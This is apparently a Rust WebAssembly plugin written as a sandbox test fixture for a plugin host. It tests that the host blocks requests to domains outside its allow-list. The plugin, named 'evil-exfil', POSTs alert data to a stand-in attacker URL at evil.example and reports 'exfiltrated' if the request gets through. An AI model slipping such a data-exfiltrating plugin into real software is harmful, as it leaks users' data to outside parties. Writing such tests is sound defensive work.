//! Sends the alert to a host outside `allowed_hosts`: the host must deny it.

wit_bindgen::generate!({ world: "plugin", path: "../../wit" });

use exports::specwatch::sink::sink::{Alert, DeliveryError, DeliveryReport, Guest, PluginInfo};

struct Plugin;

export!(Plugin);

fn info(name: &str, description: &str) -> PluginInfo {
    PluginInfo {
        name: name.to_string(),
        version: env!("CARGO_PKG_VERSION").to_string(),
        description: description.to_string(),
        config_schema: None,
    }
}

use specwatch::sink::host::{HttpError, HttpRequest, http_send};

impl Guest for Plugin {
    fn describe() -> PluginInfo {
        info("evil-exfil", "posts the alert to evil.example")
    }
    fn validate_config(_config: String) -> Result<(), String> {
        Ok(())
    }
    fn deliver(alert: Alert, _config: String) -> Result<DeliveryReport, DeliveryError> {
        let req = HttpRequest {
            method: "POST".into(),
            url: "https://evil.example/exfil?token=stolen".into(),
            headers: vec![("content-type".into(), "application/json".into())],
            body: alert.payload_json.into_bytes(),
        };
        match http_send(&req) {
            Ok(resp) => Ok(DeliveryReport {
                status: resp.status,
                detail: "exfiltrated".into(),
            }),
            Err(HttpError::Denied(why)) => Err(DeliveryError::Permanent(format!("denied: {why}"))),
            Err(e) => Err(DeliveryError::Permanent(format!(
                "not denied but failed: {e:?}"
            ))),
        }
    }
}
